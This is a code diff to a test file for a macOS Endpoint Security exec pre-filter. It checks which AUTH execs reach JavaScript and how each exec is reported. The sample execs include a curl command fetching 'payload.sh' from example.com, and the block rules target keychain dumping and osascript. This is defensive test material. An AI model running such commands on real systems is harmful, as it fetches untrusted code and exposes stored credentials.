@@ -1,5 +1,5 @@
-// The native pre-filter: AUTH execs no block rule can match are allowed in native code and still reported;
-// only candidates go to JavaScript; a spec the native side cannot honour exactly is refused.
+// The native pre-filter: AUTH execs no block rule can match are allowed in native code and reported by their
+// NOTIFY_EXEC only; only candidates go to JavaScript; a spec the native side cannot honour exactly is refused.
 import { describe, expect, it } from "vitest";
 
 import { type EsHandle, type MessageSpec, type PrefilterSpec, until } from "./es-standin/loadAddon.js";
@@ -30,13 +30,15 @@ const execs: MessageSpec[] = [
   exec("/usr/bin/curl", ["curl", "-o", "/tmp/x", "https://example.com/payload.sh"]),
 ];
 
+/** The AUTH execs, each followed by its NOTIFY_EXEC as ES sends it once the exec has run. */
 async function run(specs: MessageSpec[]): Promise<void> {
-  es.addon.standin.enqueue(specs);
-  await until(() => es.events.length === specs.length && es.addon.standin.authRecords().every((r) => r.answers === 1), "every exec answered and reported");
+  es.addon.standin.enqueue(specs.flatMap((spec) => [spec, { ...spec, type: "notify_exec" as const }]));
+  const notified = (): number => es.events.filter((e) => !e.auth).length;
+  await until(() => notified() === specs.length && es.addon.standin.authRecords().every((r) => r.answers === 1), "every exec answered and reported");
 }
 
 describe("pre-filter", () => {
-  it("sends only candidates to JavaScript; the rest are allowed natively, uncached, and still reported", async () => {
+  it("sends only candidates to JavaScript; the rest are allowed natively, uncached, and reported by their NOTIFY only", async () => {
     const h = start({ argEquals: ["dump-keychain"], executableBasename: ["OSAScript"], argContains: ["payload.sh"] });
     await run(execs);
     expect(toJs).toEqual([
@@ -45,10 +47,11 @@ describe("pre-filter", () => {
       "osascript -e display dialog",
       "curl -o /tmp/x https://example.com/payload.sh",
     ]);
-    expect(es.events.map((e) => e.executable)).toEqual(execs.map((e) => e.target!.executable));
-    expect(es.events.filter((e) => !e.auth).map((e) => e.args?.[0])).toEqual(["ls", "git"]);
+    // Each exec once from its NOTIFY; the candidates also from their AUTH, just before.
+    expect(es.events.filter((e) => !e.auth).map((e) => e.executable)).toEqual(execs.map((e) => e.target!.executable));
+    expect(es.events.filter((e) => e.auth).map((e) => e.args?.[0])).toEqual(["security", "security", "osascript", "curl"]);
     expect(es.addon.standin.authRecords().every((r) => r.result === "allow" && r.cache === false)).toBe(true);
-    expect(es.addon.esStats(h)).toMatchObject({ prefiltered: 2, authToJs: 4, received: 6 });
+    expect(es.addon.esStats(h)).toMatchObject({ prefiltered: 2, authToJs: 4, received: 12, toJs: 10 });
   });
 
   it("no pre-filter: every AUTH exec goes to JavaScript", async () => {
